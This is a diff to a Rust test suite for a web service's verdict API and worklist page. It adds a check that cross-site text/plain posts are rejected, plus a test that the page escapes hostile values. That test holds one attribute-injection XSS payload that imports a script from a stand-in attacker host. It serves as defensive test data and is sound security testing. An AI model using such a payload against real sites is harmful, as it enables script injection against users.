@@ -143,6 +143,11 @@ fn verdicts_through_the_api_and_the_page_make_the_report(backend: Backend) {
     assert_eq!(status, 400, "{error}");
     assert!(error["error"].as_str().unwrap().contains("`maybe`"), "{error}");
     assert_eq!(post(&setup, &path(positives[0].1), Some(LEE), "not json").0, 400);
+    // JSON only: a form on another page of the site (text/plain: no preflight) cannot post one
+    let lee = format!("Bearer {LEE}");
+    let as_form = [("Authorization", lee.as_str()), ("Content-Type", "text/plain")];
+    let (status, _, _) = http_request(setup.http_port, "POST", &path(positives[0].1), &as_form, agree).unwrap();
+    assert_eq!(status, 415);
     assert_eq!(post(&setup, &path(999_999), Some(LEE), agree).0, 404);
     assert_eq!(post(&setup, "/api/results/x/verdict", Some(LEE), agree).0, 404);
 
@@ -202,3 +207,21 @@ on_both_backends!(
     shadow_versions_are_recorded_beside_production_and_never_sent,
     verdicts_through_the_api_and_the_page_make_the_report
 );
+
+/// The page's escaping, run as the page runs it (node): values from images (a skip reason quotes
+/// the tags it read) reach element text and quoted attributes alike, so quotes are escaped too.
+#[test]
+fn the_page_escapes_what_images_say_for_attributes_too() {
+    let page = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("src/http/worklist.html")).unwrap();
+    let escape = page.lines().find(|l| l.starts_with("const text = ")).expect("the page's text()");
+    let hostile = r#"species "x onmouseover=import('//evil/x.js') y" <b>&"#;
+    let out = Command::new("node")
+        .arg("-e")
+        .arg(format!("{escape}\nprocess.stdout.write(text(process.argv[1]))"))
+        .arg(hostile)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", text(&out));
+    let escaped = String::from_utf8(out.stdout).unwrap();
+    assert_eq!(escaped, "species &quot;x onmouseover=import(&#39;//evil/x.js&#39;) y&quot; &lt;b&gt;&amp;");
+}
